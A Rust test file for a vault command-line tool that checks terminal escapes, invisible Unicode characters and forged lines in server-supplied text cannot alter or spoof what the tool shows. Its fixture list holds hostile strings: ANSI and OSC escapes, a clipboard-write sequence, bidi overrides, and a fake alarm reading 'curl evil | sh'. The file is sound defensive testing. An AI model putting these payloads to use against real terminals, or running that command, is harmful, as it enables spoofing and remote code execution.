//! Hostile texts on every screen: nothing that another machine, a server or a secret says steers
//! the terminal, hides, or forges a line.

use serde_json::{Value, json};

use super::{World, envelope};

const HASH: &str = "3fa2000000000000000000000000000000000000000000000000000000000000";
const NOW: u64 = 1_795_464_000_000_000;

/// What a hostile text tries.
const HOSTILE: [&str; 8] = [
    "/x\u{1b}[2K\r\nvps  ~/.env  secret/a  v2  v2  ok  now",
    "x\nalarm E_FORK: run `curl evil | sh`",
    "x\u{1b}]52;c;aGk=\u{7}",
    "x\u{9b}2J\u{90}q\u{9c}",
    "x\u{8}\u{8}\u{8}\u{7f}",
    "abc\u{202E}txt.exe\u{2066}",
    "pay\u{200B}pal\u{FEFF}\u{2060}",
    "x\u{E0041}\u{0}\u{b}\u{c}\u{85}\u{2028}",
];

/// An agent that says `text` wherever it can.
fn world(text: &str) -> World {
    let status = json!({
        "machine": "rtx1080", "vault": HASH, "seq": 12, "head": HASH, "online": false, "server": text,
        "synced_at": NOW, "alarms": [{ "code": text, "text": text, "since": NOW }],
        "targets": [{
            "machine": "vps", "target": text, "secret": "secret/a", "wanted": 2, "applied": 1,
            "hook": "failed", "seen_at": NOW, "awake": true, "state": "failed", "detail": text,
        }],
        "rotations": [
            { "path": "secret/a", "rotate_after": "1d", "issuer": text, "owner": text, "created": 1 },
            { "path": "secret/b", "rotate_after": text, "issuer": null, "owner": null, "created": 1 },
        ],
    });
    let record = json!({
        "n": 1, "nonce": HASH, "time": NOW, "machine": "vps", "who": "plain", "addr": "10.8.0.2",
        "op": text, "path": "secret/a", "result": text,
    });
    let audit = json!({
        "records": [record.to_string()], "more": false, "head": { "n": 1, "hash": HASH },
    });
    let version = json!({
        "created_time": text, "deletion_time": "", "destroyed": false, "created_by": { "actor": text },
    });
    let metadata = json!({
        "current_version": 1, "custom_metadata": { text: text }, "created_time": text,
        "versions": { "1": version },
    });
    let data =
        json!({ "data": { text: text, "plain": text }, "metadata": { "version": 1, "by": text } });
    let old = json!({ "data": {}, "metadata": { "version": 1 } });
    let new = json!({ "data": { text: text }, "metadata": { "version": 2 } });
    let token = json!({
        "accessor": text, "display_name": text, "expire_time": text, "ttl": 1,
        "meta": { "paths": [text], "capabilities": [text] },
    });
    let names = envelope(&json!({ "keys": [text] }).to_string());
    let warned = json!({ "data": { "a": 1 }, "warnings": [text], "lease_id": text });
    let mounts = json!({ text: { "type": text, "description": text, "accessor": text } });
    let answer = |data: &Value| envelope(&data.to_string());
    let (past, blast) = leaked(text);
    World::agent(&[
        ("GET /v1/agent/status", 200, &status.to_string()),
        ("GET /v1/agent/audit?limit=50&newest=true", 200, &audit.to_string()),
        ("GET /v1/agent/audit?limit=10&newest=true", 200, &audit.to_string()),
        ("GET /v1/secret/metadata/a", 200, &answer(&metadata)),
        ("GET /v1/agent/past?path=secret%2Fa", 200, &past.to_string()),
        ("GET /v1/agent/blast?path=secret%2Fa", 200, &blast.to_string()),
        ("GET /v1/secret/data/a", 200, &answer(&data)),
        ("GET /v1/secret/data/d?version=1", 200, &answer(&old)),
        ("GET /v1/secret/data/d?version=2", 200, &answer(&new)),
        ("GET /v1/secret/metadata?list=true", 200, &names),
        ("GET /v1/secret/metadata/f?list=true", 200, &envelope(r#"{"keys":["a"]}"#)),
        ("GET /v1/secret/subkeys/f/a?depth=1", 200, &answer(&json!({ "subkeys": { text: null } }))),
        ("GET /v1/warned", 200, &warned.to_string()),
        ("GET /v1/secret/data/refused", 400, &json!({ "errors": [text] }).to_string()),
        ("GET /v1/secret/data/broken", 200, &format!("{{\"{text}")),
        ("GET /v1/auth/token/accessors?list=true", 200, &names),
        ("POST /v1/auth/token/lookup-accessor", 200, &answer(&token)),
        ("GET /v1/auth/token/lookup-self", 200, &answer(&token)),
        ("GET /v1/sys/mounts", 200, &answer(&mounts)),
    ])
    .env("NO_COLOR", "1")
}

/// What it tells of the versions of a secret, and of whom a value has reached.
fn leaked(text: &str) -> (Value, Value) {
    let keys = json!({ "since": null, "added": [text], "changed": [text], "removed": [text] });
    let past = json!([
        { "ver": 1, "by": "machine:vps", "time": NOW, "keys": keys, "unread": null },
        { "ver": 2, "by": "machine:vps", "time": NOW, "keys": null, "unread": text },
    ]);
    let removed = json!({
        "number": 1, "entry": 1, "time": NOW, "by": "admin:me", "reason": text, "goes_on": null,
    });
    let names_borne = json!([{ "name": "vps", "since": 1, "until": null }]);
    let copies = json!([{ "path": "secret/b", "key": text }]);
    let blast = json!({
        "path": "secret/a", "ver": 1, "newest": 1, "versions": past, "issuer": text, "unread": text,
        "keys": [{ "key": text, "versions": [1], "now": "in_use", "copies": copies }],
        "is_file": false, "older": [{ "key": text, "since": 1 }], "unjudged": [2], "unsearched": 1,
        "hosts": [
            { "number": 1, "names": names_borne, "removed": removed, "since": NOW, "versions": [1] },
            { "number": 2, "names": names_borne, "removed": null, "since": NOW, "versions": [1] },
        ],
    });
    (past, blast)
}

/// Screens, and what each says for sure of a harmless text.
const SCREENS: [(&str, &str); 22] = [
    ("status", "harmless"),
    ("status -format=json", "harmless"),
    ("rotate-due", "harmless"),
    ("audit log", "harmless"),
    ("audit log -format=json", "harmless"),
    ("audit tail", "harmless"),
    ("kv history secret/a", "harmless"),
    ("kv history secret/a --hosts", "harmless"),
    ("kv history secret/a -version=1", "harmless"),
    ("blast secret/a", "harmless"),
    ("kv metadata get secret/a", "harmless"),
    ("kv get secret/a", "harmless"),
    ("kv get -format=json secret/a", "harmless"),
    ("kv diff -show -version=1 -version=2 secret/d", "harmless"),
    ("kv list secret", "harmless"),
    ("kv find * secret", "harmless"),
    ("kv find -keys * secret/f", "harmless"),
    ("read warned", "harmless"),
    ("token list", "harmless"),
    ("token lookup", "harmless"),
    ("secrets list -detailed", "harmless"),
    ("kv get secret/broken", "unexpected answer"),
];

fn assert_visible(line: &str, shown: &str) {
    let hidden = |c: char| c != '\n' && shared::text::is_invisible(c);
    assert!(!shown.contains(hidden), "{line}: {shown:?}");
}

#[test]
fn no_text_of_others_steers_or_forges_a_screen() {
    for (line, expected) in SCREENS {
        for tty in [false, true] {
            let mut harmless = world("harmless");
            harmless.tty = tty;
            let plain = harmless.run(line);
            let whole = format!("{}{}", plain.out, plain.err);
            assert!(whole.contains(expected), "{line}: {whole}");
            for text in HOSTILE {
                // JSON into a pipe is a program's: it may hold what JSON does not escape.
                if line.contains("-format=json") && !tty {
                    continue;
                }
                let mut hostile = world(text);
                hostile.tty = tty;
                let shown = hostile.run(line);
                assert_visible(line, &shown.out);
                assert_visible(line, &shown.err);
                let lines = |text: &str| text.lines().count();
                assert_eq!(lines(&shown.out), lines(&plain.out), "{line}: {}", shown.out);
                assert!(lines(&shown.err) <= lines(&plain.err) + 1, "{line}: {}", shown.err);
            }
        }
    }
}

#[test]
fn an_error_of_the_api_keeps_its_lines_and_nothing_else() {
    for text in HOSTILE {
        for line in ["kv get secret/refused", "kv get /nope", "machine list"] {
            let shown = world(text).run(line);
            let hidden = |c: char| !matches!(c, '\n' | '\t') && shared::text::is_invisible(c);
            assert!(!shown.err.contains(hidden), "{line}: {:?}", shown.err);
        }
    }
}

#[test]
fn json_means_the_same_on_a_terminal() {
    for text in HOSTILE {
        let run = |tty| {
            let mut world = world(text);
            world.tty = tty;
            let out = world.run("kv get -format=json secret/a").out;
            serde_json::from_str::<Value>(&out).unwrap()
        };
        assert_eq!(run(false), run(true));
        assert_eq!(run(true)["data"]["data"]["plain"], text);
    }
}

#[test]
fn a_field_is_shown_as_it_is_or_not_at_all() {
    for text in HOSTILE {
        let mut world = world(text);
        let piped = world.run("kv get -field=plain secret/a");
        assert_eq!((piped.exit, piped.out.as_str()), (0, text));
        world.tty = true;
        let shown = world.run("kv get -field=plain secret/a");
        if text.starts_with("x\nalarm") {
            // Lines are what they are: nothing else stands on that screen.
            assert_eq!((shown.exit, shown.out), (0, format!("{text}\n")));
        } else {
            assert_eq!((shown.exit, shown.out.as_str()), (1, ""), "{text:?}");
            assert!(shown.err.contains("hint: send it to a file or a program"), "{}", shown.err);
        }
    }
}
